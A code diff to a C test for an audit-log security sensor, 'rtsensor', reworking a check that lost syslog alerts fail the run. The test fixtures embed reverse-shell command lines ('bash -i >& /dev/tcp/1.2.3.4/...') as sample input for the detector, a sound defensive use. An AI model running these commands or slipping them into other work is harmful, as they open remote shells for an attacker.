@@ -15,6 +15,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/socket.h>
+#include <sys/time.h>
 #include <sys/un.h>
 #include <sys/wait.h>
 #include <unistd.h>
@@ -154,33 +155,39 @@ Test(syslog, alerts_reach_a_unix_socket, .init = setup, .fini = teardown)
 
 Test(syslog, undelivered_alerts_fail_the_run, .init = setup, .fini = teardown)
 {
+	/* two reverse shells (threat rule: alerts even while learning), fed one at a time */
+	static const char first[] = EXEC("1767225600.000", "1", "/tmp/a", "sh",
+		"argc=3 a0=\"sh\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/1.2.3.4/1 0>&1\"", "6C73");
+	static const char second[] = EXEC("1767225601.000", "2", "/tmp/b", "sh",
+		"argc=3 a0=\"sh\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/1.2.3.4/2 0>&1\"", "6C73");
 	struct sockaddr_un sa = { .sun_family = AF_UNIX };
-	char cmd[512], *err;
+	struct timeval tv = { .tv_sec = 30 };
+	char cmd[512], m[65536], *err;
 	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0), st;
-	const char *third = strstr(log_text, "type=SYSCALL msg=audit(1767225640.000");
 	FILE *in;
 	size_t n;
 
-	/* the collector goes away after rtsensor connected to it, before the alerts */
 	cr_assert_geq(fd, 0);
 	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s/gone.sock", dir);
 	cr_assert_eq(bind(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
+	cr_assert_eq(setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv)), 0);
 	snprintf(cmd, sizeof(cmd),
-		 "\"$RTSENSOR\" replay --audit - --mode learn --learn-min 5 --learn-stable 5 "
-		 "--alerts /dev/null --syslog 'unix:%s' 2>'%s/err'", sa.sun_path, dir);
+		 "\"$RTSENSOR\" replay --audit - --mode learn --alerts /dev/null "
+		 "--syslog 'unix:%s' 2>'%s/err'", sa.sun_path, dir);
 	in = popen(cmd, "w");
 	cr_assert_not_null(in);
-	fwrite(log_text, 1, (size_t)(third - log_text), in);
+	fputs(first, in);
 	fflush(in);
-	usleep(300000);
+	/* the first alert arrives: rtsensor is connected; then the collector goes away */
+	cr_assert_gt(recv(fd, m, sizeof(m), 0), 0, "the first alert reached the collector");
 	close(fd);
-	fputs(third, in);
+	fputs(second, in);
 	st = pclose(in);
 	cr_assert(WIFEXITED(st) && WEXITSTATUS(st) == 1, "a lost alert fails the run (%d)", st);
 	snprintf(cmd, sizeof(cmd), "%s/err", dir);
 	err = read_file(cmd, &n);
 	cr_assert_not_null(err);
-	cr_assert(strstr(err, "2 of 2 alerts not delivered"), "%s", err);
+	cr_assert(strstr(err, "1 of 2 alerts not delivered"), "%s", err);
 	free(err);
 }
 
